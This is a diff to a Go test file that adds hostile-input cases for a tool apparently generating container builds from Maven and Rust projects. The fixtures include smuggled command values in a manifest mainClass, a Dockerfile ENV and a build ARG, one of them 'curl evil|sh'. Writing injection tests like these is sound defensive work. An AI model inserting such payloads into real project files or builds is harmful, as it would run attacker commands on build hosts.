@@ -81,6 +81,20 @@ func TestHostileProjectValues(t *testing.T) {
 			dir + "/pom.xml": `<project><parent><groupId>g</groupId><artifactId>shop</artifactId><version>1</version></parent><artifactId>svc</artifactId><build><plugins><plugin><groupId>org.springframework.boot</groupId><artifactId>spring-boot-maven-plugin</artifactId><version>3.4.1</version></plugin></plugins></build></project>`,
 		}
 	}
+	plainJar := func(mainClass string) map[string]string {
+		return map[string]string{"pom.xml": `<project><groupId>g</groupId><artifactId>app</artifactId><version>1</version>` +
+			`<properties><maven.compiler.release>21</maven.compiler.release></properties><build><plugins><plugin>` +
+			`<groupId>org.apache.maven.plugins</groupId><artifactId>maven-jar-plugin</artifactId><version>3.4.2</version>` +
+			`<configuration><archive><manifest><mainClass>` + mainClass + `</mainClass></manifest></archive></configuration></plugin></plugins></build></project>`}
+	}
+	rustOwn := func(dockerfile string) map[string]string {
+		return map[string]string{
+			"Cargo.toml":        "[package]\nname = \"svc\"\nversion = \"0.1.0\"\n[features]\nsqlite = []\n",
+			"Cargo.lock":        "version = 4\n\n[[package]]\nname = \"svc\"\nversion = \"0.1.0\"\n",
+			"src/main.rs":       "fn main() { let a = std::env::var(\"SVC_ADDR\").unwrap(); let _ = std::net::TcpListener::bind(a); }\n",
+			"docker/Dockerfile": dockerfile,
+		}
+	}
 	long := strings.Repeat("a", 5000)
 
 	cases := []struct {
@@ -122,6 +136,9 @@ func TestHostileProjectValues(t *testing.T) {
 		{"maven artifactId", pom("app", ""), pom("app&amp;&amp;id`x`", ""), nil},
 		{"maven artifactId very long", pom("app", ""), pom(long, ""), nil},
 		{"maven module dir", reactor("svc"), reactor("svc$(x)"), nil},
+		{"maven mainClass", plainJar("org.example.Main"), plainJar("org.example.Main\"]\nRUN id #"), nil},
+		{"rust own Dockerfile env", rustOwn("FROM rust\nRUN cargo build\nFROM scratch\nENV OTHER=1\n"), rustOwn("FROM rust\nRUN cargo build\nFROM scratch\nENV SVC_ADDR=\"0.0.0.0:80;id&&x\"\n"), nil},
+		{"rust own Dockerfile features", rustOwn("FROM rust\nRUN cargo build\n"), rustOwn("FROM rust\nARG F=\"sqlite;curl evil|sh\"\nRUN cargo build --features $F\n"), nil},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
